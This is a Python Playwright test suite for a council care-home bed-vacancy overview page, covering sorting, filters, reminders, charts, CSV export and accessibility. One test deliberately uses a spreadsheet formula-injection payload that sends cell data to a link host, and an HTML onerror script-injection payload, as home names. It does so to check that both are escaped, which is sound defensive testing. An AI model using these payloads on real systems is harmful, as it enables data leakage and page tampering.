"""A council's officer sees whose answer is worth most, reminds them, and exports the list."""

import csv
import io
import re
from collections.abc import Callable
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from itertools import count
from typing import Any

import httpx
import pytest
from playwright.sync_api import Locator, Page, Route, expect

from local.emulator.people import Person
from local.emulator.sent_messages import emails_to
from local.emulator.stack import LocalStack, table_of
from local.emulator.tokens import token
from local.site.browser import sign_in
from shared.domain.beds import AdmissionStatus
from shared.domain.placing_stop import PlacingStop
from shared.domain.uk_time import uk_day
from shared.domain.vocabulary import AdmissionState, BedCategory, ClosureReason, Registration
from tests.support.builders import REGISTER, counts, mark
from tests.support.patience import eventually
from tests.web.conftest import DESKTOP, PHONE, Visit, World
from tests.web.pages import axe_violations, hold_requests, resize, scrolls_sideways, small_targets

WIDTHS = (320, 600, 768, 800)
"""Pixels: the smallest phone, and both sides of where the layout changes."""

NURSING = BedCategory.GENERAL_NURSING
CLOSED = AdmissionStatus(AdmissionState.CLOSED, ClosureReason.OUTBREAK, date(2099, 12, 1))
DAYS = 28

_numbers = count(1)


class Area:
    """A local authority that only one test uses."""

    def __init__(self, world: World) -> None:
        self._world = world
        self.name = f"Area {next(_numbers)}"

    def home(
        self,
        name: str,
        *,
        days: float | None = 0.5,
        registration: Registration = Registration.ACTIVE,
        **other: Any,
    ) -> str:
        """Add a home that confirmed that many days ago, or never; return its id."""
        confirmed_at = None if days is None else datetime.now(UTC) - timedelta(days=days)
        register = replace(
            REGISTER, name=name, local_authority=self.name, registration=registration
        )
        if days is None:
            other = {"beds": {}, **other}
        return self._world.home(register=register, confirmed_at=confirmed_at, **other)

    def page(self, **filters: str) -> str:
        """Give the address of the overview with only these homes in its list."""
        query = httpx.QueryParams({"authority": self.name, **filters})
        return f"/council.html?{query}"


@pytest.fixture
def area(world: World) -> Area:
    return Area(world)


@pytest.fixture
def officer(world: World) -> Person:
    return world.person("council")


def get(stack: LocalStack, path: str) -> Any:
    headers = {"Authorization": f"Bearer {token(stack, ['council'])}"}
    response = httpx.get(f"{stack.api_url}{path}", headers=headers, timeout=30)
    response.raise_for_status()
    return response.json()


def rows(page: Page) -> Locator:
    return page.locator(".homes-table tbody tr")


def names(page: Page) -> list[str]:
    return page.locator(".homes-table th[scope=row] a").all_inner_texts()


def reload(page: Page) -> None:
    page.reload()
    page.locator("main h1").wait_for()


def wait_for_all_days(page: Page) -> None:
    expect(page.get_by_text(f"of {DAYS} days.")).to_have_count(0, timeout=60_000)


def chart_rows(page: Page, summary: str) -> list[list[str]]:
    """Open the table under a chart and return its cells, row by row."""
    details = page.locator("details").filter(has_text=summary)
    details.locator("summary").click()
    return [row.locator("th, td").all_inner_texts() for row in details.locator("tbody tr").all()]


def open_all_details(page: Page) -> None:
    for summary in page.locator("summary").all():
        summary.click()


def test_back_from_a_home_finds_the_list_as_it_was_left(
    officer: Person, area: Area, visit: Visit
) -> None:
    for number in range(27):
        area.home(f"House {number:02}")
    page = visit(f"{area.page()}&sort=name", officer, ready="tbody tr")
    page.get_by_role("button", name="Show the last 2").click()
    last = page.get_by_role("link", name="House 26", exact=True)
    for way_back in ("link", "browser", "refresh"):
        if way_back == "refresh":
            page.get_by_role("button", name="Refresh").click()
        else:
            last.click()
            page.get_by_role("heading", name="House 26").wait_for()
            if way_back == "link":
                page.get_by_role("link", name="Back to the overview").click()
            else:
                page.go_back()
        expect(rows(page)).to_have_count(27)
        if way_back != "refresh":
            expect(last).to_be_focused()
            expect(last).to_be_in_viewport()
    page.get_by_label("Name or postcode").fill("House")
    expect(rows(page)).to_have_count(25)


def test_a_refresh_leaves_someone_in_the_field_they_are_typing_in(
    area: Area, officer: Person, visit: Visit
) -> None:
    for name in ("Ash", "Birch"):
        area.home(name)
    page = visit(area.page(), officer, ready="tbody tr")
    held = hold_requests(page, "**/api/homes")
    page.get_by_role("button", name="Refresh").click()
    expect(page.get_by_role("button", name="Refresh")).to_have_attribute("aria-disabled", "true")
    field = page.get_by_label("Name or postcode")
    field.press_sequentially("bi")
    field.evaluate("input => input.dataset.shown = 'before'")
    held[0].continue_()
    expect(page.locator("[data-shown]")).to_have_count(0)
    expect(field).to_be_focused()
    page.keyboard.type("rch")
    expect(field).to_have_value("birch")
    expect(page.locator(".homes-table th[scope=row] a")).to_have_text(["Birch"])


def test_an_officer_lands_on_the_overview(officer: Person, area: Area, visit: Visit) -> None:
    area.home("Larkrise House")
    page = visit("/")
    page.locator("main").get_by_role("button", name="Sign in").click()
    sign_in(page, officer)
    page.wait_for_url("**/council.html")
    page.get_by_role("heading", name="Overview", level=1).wait_for()
    expect(page.get_by_role("link", name="Overview")).to_have_attribute("aria-current", "page")


def test_a_carer_cannot_open_the_overview(world: World, visit: Visit) -> None:
    home = world.home()
    page = visit("/council.html", world.carer(home))
    expect(page.get_by_role("heading", name="You cannot use this page")).to_be_visible()
    expect(page.get_by_role("link", name="Overview")).to_have_count(0)
    assert axe_violations(page) == []


ONE, MANY = {NURSING: counts(1)}, {NURSING: counts(9)}
BEDS_OF: dict[bool, Any] = {True: {}, False: {"beds": ONE}}
"""Whether it never posted."""
WORDS = ("Very likely", "Likely", "Uncertain", "Phone first", "Lists no bed", "Never posted")


def test_the_overview_counts_homes_by_how_likely_a_bed_is(
    stack: LocalStack, officer: Person, area: Area, visit: Visit
) -> None:
    for name, days in {"A": 0.1, "B": 3, "C": 40, "D": 120, "E": None}.items():
        area.home(name, days=days, **BEDS_OF[days is None])
    area.home("F", admission_status=CLOSED)
    page = visit("/council.html", officer)
    totals = get(stack, "/homes")["totals"]
    likelihood = totals["likelihood"]
    assert min(likelihood.values()) >= 1
    unsure = likelihood["uncertain"] + likelihood["phone_first"]
    good = likelihood["very_likely"] + likelihood["likely"]
    expect(page.locator(".as-of")).to_contain_text("Last updated at")
    expect(page.locator(".lede")).to_contain_text(f"{good + unsure} homes list a free bed")
    expect(page.locator(".lede")).to_contain_text(f"at {unsure} it is uncertain")
    figures = [
        int(each.locator(".figure__number").inner_text()) for each in page.locator(".figure").all()
    ]
    assert figures == list(likelihood.values())
    for figure, word in zip(page.locator(".figure").all(), WORDS, strict=True):
        expect(figure.locator("strong")).to_contain_text(word)
    closed = re.compile(rf"^{totals['closed']} homes? (is|are) closed to admissions")
    expect(page.get_by_text(closed)).to_be_visible()


def test_homes_whose_answer_is_worth_most_are_first(
    area: Area, officer: Person, visit: Visit
) -> None:
    area.home("Today House", days=0.1, beds=ONE)
    single = area.home("Single House", days=9, beds=ONE)
    area.home("Many House", days=9, beds=MANY)
    area.home("Never House", days=None)
    page = visit(area.page(), officer)
    assert names(page) == ["Never House", "Single House", "Today House", "Many House"]
    line = rows(page).filter(has_text="Single House")
    expect(line).to_contain_text("Likely")
    expect(line).to_contain_text("1 bed, said 9 days ago; one is expected to fill in about 4 weeks")
    expect(line).to_contain_text(re.compile(r"at \d+:\d\d[ap]m on \d+ [A-Z]"))
    expect(rows(page).filter(has_text="Many House")).to_contain_text("Very likely")
    expect(rows(page).first).to_contain_text("Never posted")
    link = line.get_by_role("link", name="Single House", exact=True)
    expect(link).to_have_attribute("href", f"/home.html?id={single}")


def test_a_count_said_earlier_than_the_others_has_its_own_date(
    area: Area, world: World, officer: Person, visit: Visit
) -> None:
    home = area.home("Larkrise House", days=9)
    world.overtake(home, 3)
    page = visit(area.page(), officer)
    expect(rows(page)).to_contain_text("9 days ago")
    expect(rows(page)).to_contain_text("General nursing less than a day ago")


def reminded_person(stack: LocalStack, home: str) -> str:
    """Make someone who agreed to a home's reminders; return the address."""
    address = f"manager.{home}@example.org"
    headers = {"Authorization": f"Bearer {token(stack, [f'home:{home}'])}"}
    added = httpx.post(
        f"{stack.api_url}/homes/{home}/reminders",
        headers=headers,
        json={"protocol": "email", "address": address},
        timeout=30,
    )
    added.raise_for_status()
    (invitation,) = emails_to(stack, address)
    confirmation = {"token": invitation.tokens[0]}
    confirmed = httpx.post(f"{stack.api_url}/members/confirm", json=confirmation, timeout=30)
    confirmed.raise_for_status()
    return address


def test_an_officer_reminds_one_home_and_the_ticked_ones(
    area: Area, officer: Person, visit: Visit, stack: LocalStack
) -> None:
    one = area.home("Ash House", days=9, beds=ONE)
    two = area.home("Birch House", days=9, beds=ONE)
    area.home("Cedar House", days=9, beds=ONE)
    area.home("Daisy House", days=0.1, beds=ONE)
    first, second = reminded_person(stack, one), reminded_person(stack, two)
    page = visit(area.page(sort="name"), officer)
    page.get_by_role("button", name="Remind: Ash House").click()
    expect(page.get_by_role("heading", name="1 home reminded")).to_be_visible()
    expect(rows(page).nth(0)).to_contain_text("Reminded at")
    expect(rows(page).nth(3)).to_contain_text("Posted in the last 20 hours")
    expect(page.get_by_role("button", name=re.compile("ticked"))).to_be_hidden()
    for name in ("Birch House", "Cedar House"):
        page.get_by_role("checkbox", name=f"Tick: {name}").check()
    assert axe_violations(page) == []
    assert small_targets(page) == []
    page.get_by_role("button", name="Remind 2 ticked homes").click()
    expect(page.get_by_text("so phone them: Cedar House")).to_be_visible()
    expect(page.get_by_role("heading", name="1 home reminded")).to_be_visible()
    assert eventually(lambda: len(emails_to(stack, first)) == 2)
    assert eventually(lambda: len(emails_to(stack, second)) == 2)
    reload(page)
    for number in (0, 1):
        expect(rows(page).nth(number)).to_contain_text("Reminded at")


def test_a_reminder_that_could_not_be_sent_can_be_sent_again(
    area: Area, officer: Person, visit: Visit
) -> None:
    area.home("Ash House", days=9, beds=ONE)
    page = visit(area.page(), officer)
    page.route("**/api/reminders", lambda route: route.abort())
    page.get_by_role("checkbox", name="Tick: Ash House").check()
    page.get_by_role("button", name="Remind 1 ticked home").click()
    expect(page.get_by_role("heading", name="Not done")).to_be_visible()
    expect(page.get_by_role("checkbox", name="Tick: Ash House")).to_be_checked()


def test_the_keyboard_sorts_columns(area: Area, officer: Person, visit: Visit) -> None:
    area.home("Birch", days=1, beds={NURSING: counts(3)})
    area.home("Ash", days=2, beds={NURSING: counts(1)})
    area.home("cedar 10", days=3, beds={NURSING: counts(2)})
    page = visit(area.page(), officer, size=DESKTOP)
    head = page.locator(".homes-table thead th")
    worth, home, vacancies = (
        head.filter(has=page.get_by_role("button", name=name, exact=True))
        for name in ("Ask", "Home", "Vacancies")
    )
    expect(worth).to_have_attribute("aria-sort", "descending")
    page.get_by_role("button", name="Home", exact=True).focus()
    page.keyboard.press("Enter")
    assert names(page) == ["Ash", "Birch", "cedar 10"]
    expect(home).to_have_attribute("aria-sort", "ascending")
    assert worth.get_attribute("aria-sort") is None
    page.keyboard.press("Enter")
    assert names(page) == ["cedar 10", "Birch", "Ash"]
    expect(home).to_have_attribute("aria-sort", "descending")
    expect(page.get_by_role("button", name="Home", exact=True)).to_be_focused()
    page.get_by_role("button", name="Vacancies").focus()
    page.keyboard.press("Space")
    assert names(page) == ["Birch", "cedar 10", "Ash"]
    assert "sort=-vacancies" in page.url
    reload(page)
    expect(vacancies).to_have_attribute("aria-sort", "descending")
    assert names(page)[0] == "Birch"


def test_a_phone_has_a_list_of_orders(area: Area, officer: Person, visit: Visit) -> None:
    area.home("Ash", days=1)
    area.home("Birch", days=2)
    page = visit(area.page(), officer)
    assert names(page) == ["Birch", "Ash"]
    expect(page.get_by_role("button", name="Last said")).to_be_hidden()
    page.get_by_label("Sort by").select_option("name")
    assert names(page) == ["Ash", "Birch"]
    expect(rows(page).first.get_by_text("Last said")).to_be_visible()


def test_filters_are_kept_in_the_address(area: Area, officer: Person, visit: Visit) -> None:
    area.home("Ash Court", days=30, beds=ONE)
    area.home("Ash House", days=0.1, beds=ONE)
    area.home("Birch Court", days=40, beds=ONE)
    area.home("Cedar Court", days=9, admission_status=CLOSED)
    page = visit(area.page(), officer, size=DESKTOP)
    chance = page.get_by_label("Chance of a free bed", exact=True)
    chance.select_option("Uncertain, or phone first")
    assert names(page) == ["Birch Court", "Ash Court"]
    page.get_by_label("Name or postcode").fill("court ASH")
    assert names(page) == ["Ash Court"]
    expect(page.locator(".count")).to_contain_text("1 of ")
    params = httpx.URL(page.url).params
    assert dict(params) == {"authority": area.name, "chance": "unsure", "q": "court ASH"}
    reload(page)
    expect(page.get_by_label("Name or postcode")).to_have_value("court ASH")
    expect(chance).to_have_value("unsure")
    expect(page.get_by_label("Local authority", exact=True)).to_have_value(area.name)
    assert names(page) == ["Ash Court"]
    chance.select_option("Any")
    page.get_by_label("Name or postcode").fill("EX25DW")
    page.get_by_label("Admissions").select_option("Closed to admissions")
    assert names(page) == ["Cedar Court"]
    expect(rows(page)).to_contain_text("outbreak of infection, until about 1 December 2099")
    expect(rows(page)).to_contain_text("0 of 20")


def test_filters_that_no_home_fits_can_be_cleared(
    area: Area, officer: Person, visit: Visit
) -> None:
    area.home("Ash")
    page = visit(area.page(q="zzz", sort="__proto__"), officer)
    expect(page.get_by_text("No homes match your filters.")).to_be_visible()
    expect(page.get_by_role("button", name="Download list (CSV)")).to_be_disabled()
    assert axe_violations(page) == []
    page.get_by_role("button", name="Clear filters").click()
    expect(page.get_by_label("Name or postcode")).to_have_value("")
    assert rows(page).count() >= 1


def test_a_figure_links_to_its_homes(area: Area, officer: Person, visit: Visit) -> None:
    area.home("Today House", days=0.1)
    area.home("Never House", days=None)
    page = visit("/council.html", officer)
    page.get_by_role("link", name=re.compile("no bed counts posted yet")).click()
    expect(page.get_by_role("heading", name="Homes", exact=True)).to_be_focused()
    assert httpx.URL(page.url).params["chance"] == "never"
    assert "Never House" in names(page)
    assert "Today House" not in names(page)


def test_names_of_homes_are_never_markup_or_formulas(
    area: Area, officer: Person, visit: Visit
) -> None:
    formula = '=HYPERLINK("http://127.0.0.1/?"&A1,"Look")'
    markup = "<img src=x onerror=\"document.body.textContent='hacked'\">"
    for name in (formula, markup):
        area.home(name, days=30, beds=ONE)
    area.home("Filtered Away", days=0.1)
    page = visit(area.page(chance="uncertain", sort="name"), officer)
    assert set(names(page)) == {formula, markup}
    with page.expect_download() as downloading:
        page.get_by_role("button", name="Download list (CSV)").click()
    download = downloading.value
    assert re.fullmatch(r"bedboard-homes-\d{4}-\d\d-\d\d\.csv", download.suggested_filename)
    text = download.path().read_bytes().decode("utf-8-sig")
    table = list(csv.DictReader(io.StringIO(text, newline="")))
    assert {each["Name"] for each in table} == {f"'{formula}", markup}
    assert {each["Local authority"] for each in table} == {area.name}


def test_charts_and_tables_show_what_the_api_says(
    area: Area, world: World, officer: Person, visit: Visit, stack: LocalStack
) -> None:
    home = area.home("Moving House", days=2, beds={NURSING: counts(1)})
    world.overtake(home, 8)
    world.overtake(home, 5)
    page = visit(area.page(), officer)
    wait_for_all_days(page)
    overview = get(stack, "/homes")
    totals = overview["totals"]
    kinds = {line[0]: line[1:] for line in chart_rows(page, "Vacancies by kind of bed")}
    vacancies, beds = (totals[each]["general_nursing"] for each in ("vacancies", "capacity"))
    assert kinds["General nursing"][:2] == [str(vacancies), str(beds)]
    areas = {line[0]: line[1:] for line in chart_rows(page, "Vacancies by local authority")}
    assert areas[area.name] == ["1", "0", "0", "5"]
    today = get(stack, f"/changes/{overview['as_of'][:10]}")
    days = chart_rows(page, "The last four weeks")
    assert len(days) == DAYS
    assert days[0] == [
        "Today so far",
        str(sum(totals["vacancies"].values())),
        str(sum(today["opened"].values())),
        str(sum(today["gone"].values())),
        str(today["homes_confirmed"]),
    ]
    image = page.get_by_role("img", name="Vacancies at the end of each day")
    expect(image).to_have_attribute("aria-label", re.compile(f"today {days[0][1]}$"))
    expect(image.locator("circle")).to_have_count(DAYS)
    by_kind = page.get_by_role("img", name="Vacancies by kind of bed")
    expect(by_kind.get_by_text("General nursing")).to_be_visible()


def test_a_day_that_fails_to_load_can_be_tried_again(
    area: Area, officer: Person, visit: Visit
) -> None:
    area.home("Ash")
    missing = datetime.now(UTC).date() - timedelta(days=5)
    page = visit("/council.html", officer)
    page.route(f"**/api/changes/{missing}", lambda route: route.fulfill(status=503, json={}))
    reload(page)
    notice = page.get_by_role("alert").filter(has_text="We could not load 1 day")
    expect(notice).to_contain_text(f"{missing.day} {missing:%b}", timeout=60_000)
    points = page.get_by_role("img", name="Vacancies at the end of each day").locator("circle")
    expect(points).to_have_count(6)
    days = chart_rows(page, "The last four weeks")
    assert days[5][2:] == ["not loaded"] * 3
    assert days[6][1] == "not known"
    assert axe_violations(page) == []
    page.unroute_all()
    notice.get_by_role("button", name="Try again").click()
    expect(notice).to_have_count(0)
    wait_for_all_days(page)
    expect(points).to_have_count(DAYS)


def thousand_homes(route: Route) -> None:
    """Answer as a council of a thousand homes does."""
    homes: list[dict[str, Any]] = [
        {
            "likelihood": ("very_likely", "likely", "uncertain", "never")[number % 4],
            "listings": [],
            "searches": 0,
            "reminder_value": number / 1000,
            "location_id": f"1-7{number:08}",
            "name": f"Home {number}",
            "local_authority": "Exampleshire",
            "postcode": f"EX{number % 30} 1AA",
            "admission_status": {"status": "open"},
            **({"confirmed_at": "2026-11-01T09:30:00.000Z"} if number % 4 != 3 else {}),
            "phone": "01632960001",
            "capacity": {"general_nursing": 20},
            "free": {"general_nursing": 2},
        }
        for number in range(1000)
    ]
    totals = {
        "homes": 1000,
        "closed": 0,
        "likelihood": {
            **dict.fromkeys(("very_likely", "likely", "uncertain", "never"), 250),
            **dict.fromkeys(("phone_first", "no_beds"), 0),
        },
        "capacity": {"general_nursing": 20_000},
        "vacancies": {"general_nursing": 2000},
    }
    areas = [{"local_authority": "Exampleshire", **totals}]
    overview = {"as_of": "2026-11-22T09:30:00.000Z", "totals": totals, "homes": homes}
    more = {"local_authorities": areas, "posting_but_not_in_search": []}
    route.fulfill(json={**overview, **more})


def reload_with(page: Page, handler: Callable[[Route], None]) -> None:
    """Open the overview again with another response of the API."""
    page.route("**/api/homes", handler)
    reload(page)


def test_long_lists_load_in_steps_and_print_whole(officer: Person, visit: Visit) -> None:
    page = visit("/council.html", officer, size=DESKTOP)
    reload_with(page, thousand_homes)
    expect(rows(page)).to_have_count(25)
    expect(page.get_by_label("Local authority", exact=True)).to_have_count(0)  # there is only one
    page.get_by_role("button", name="Show 25 more of 975").click()
    expect(rows(page)).to_have_count(50)
    expect(rows(page).nth(25).get_by_role("link").first).to_be_focused()
    page.evaluate("() => window.dispatchEvent(new Event('beforeprint'))")
    expect(rows(page)).to_have_count(1000)
    assert page.locator("details:not([open])").count() == 0
    page.emulate_media(media="print")
    expect(page.get_by_role("button", name="Refresh")).to_be_hidden()
    page.emulate_media(media="screen")
    page.evaluate("() => window.dispatchEvent(new Event('afterprint'))")
    expect(rows(page)).to_have_count(50)
    assert page.locator("details[open]").count() == 0
    page.get_by_label("Name or postcode").fill("home 99")
    expect(rows(page)).to_have_count(19)
    expect(page.get_by_text("20 with the most vacancies")).to_contain_text("shows all 30")


def test_a_council_without_homes_is_pointed_to_the_import(officer: Person, visit: Visit) -> None:
    none = {"homes": 0, "closed": 0, "likelihood": {}, "capacity": {}, "vacancies": {}}
    overview = {"as_of": "2026-11-22T09:30:00.000Z", "totals": none, "local_authorities": []}
    overview["posting_but_not_in_search"] = []
    page = visit("/council.html", officer)
    reload_with(page, lambda route: route.fulfill(json={**overview, "homes": []}))
    expect(page.get_by_role("heading", name="There are no homes yet")).to_be_visible()
    expect(page.get_by_role("link", name="Import CQC's care directory")).to_be_visible()
    assert axe_violations(page) == []
    assert not scrolls_sideways(page)
    assert small_targets(page) == []


def test_the_overview_reports_a_lost_connection(officer: Person, visit: Visit) -> None:
    page = visit("/council.html", officer)
    reload_with(page, lambda route: route.abort())
    expect(page.get_by_role("heading", name="No connection")).to_be_visible()
    assert axe_violations(page) == []


def test_refresh_shows_new_counts_and_a_failed_one_keeps_the_old(
    world: World, area: Area, officer: Person, visit: Visit
) -> None:
    home = area.home("Larkrise House", days=9)
    page = visit(area.page(), officer)
    page.context.set_offline(True)
    page.get_by_role("button", name="Refresh").click()
    expect(page.get_by_role("heading", name="Could not refresh")).to_be_visible()
    expect(rows(page)).to_contain_text("9 days ago")
    assert axe_violations(page) == []
    page.context.set_offline(False)
    world.overtake(home, 7)
    page.get_by_role("button", name="Refresh").click()
    expect(rows(page)).to_contain_text("less than a day ago", timeout=15_000)
    expect(rows(page)).to_contain_text("7 of 20")
    expect(page.get_by_role("heading", name="Could not refresh")).to_have_count(0)
    expect(page.locator(".as-of")).to_be_focused()


def test_the_overview_is_accessible_at_every_width(
    area: Area, officer: Person, visit: Visit
) -> None:
    area.home("A home with a name so long that it has to be broken somewhere" * 2, days=9)
    area.home("Never House", days=None)
    area.home("Closed House", admission_status=CLOSED)
    area.home("Old House", registration=Registration.DEREGISTERED)
    page = visit(area.page(), officer)
    wait_for_all_days(page)
    open_all_details(page)
    for size in (DESKTOP, PHONE):
        resize(page, *size)
        assert axe_violations(page) == []
        assert small_targets(page) == []
    for width in WIDTHS:
        resize(page, width)


def test_homes_that_post_under_an_old_id_are_named(world: World, visit: Visit) -> None:
    gone = replace(REGISTER, name="Old Larkrise", registration=Registration.DEREGISTERED)
    home = world.home(register=gone)
    page = visit("/council.html", world.person("council"))
    named = page.get_by_role("listitem").filter(has_text=home)
    expect(named).to_contain_text("Old Larkrise")
    expect(named).to_contain_text("deregistered at CQC, last posted at")
    assert axe_violations(page) == []


def test_an_officer_sees_and_picks_out_the_homes_where_the_council_is_not_placing(
    area: Area, world: World, visit: Visit, officer: Person
) -> None:
    marked, _ = area.home("Marked House"), area.home("Other House")
    mark(table_of(world.stack), marked, PlacingStop(uk_day(datetime.now(UTC))))
    page = visit(area.page(), officer, size=DESKTOP, ready=".homes-table")
    row = page.get_by_role("row", name="Marked House")
    expect(row).to_contain_text("Not placing here since")
    expect(page.get_by_role("row", name="Other House")).not_to_contain_text("Not placing")
    page.get_by_label("Placing", exact=True).select_option("Not placing here")
    expect(page.get_by_role("link", name="Marked House", exact=True)).to_be_visible()
    expect(page.get_by_role("link", name="Other House", exact=True)).to_have_count(0)
    assert "placing=stopped" in page.url
    assert axe_violations(page) == []
    for width in WIDTHS:
        resize(page, width)
        assert not scrolls_sideways(page)


def test_the_overview_says_where_the_marks_did_not_load(
    area: Area, visit: Visit, officer: Person
) -> None:
    area.home("Any House")
    page = visit("/council.html", officer, size=DESKTOP, fresh=True)
    page.route("**/api/placing-stops", lambda route: route.abort())
    page.goto(page.url)
    expect(page.get_by_text("not placing at did not load")).to_be_visible()
    expect(page.get_by_role("heading", name="Homes", exact=True)).to_be_visible()
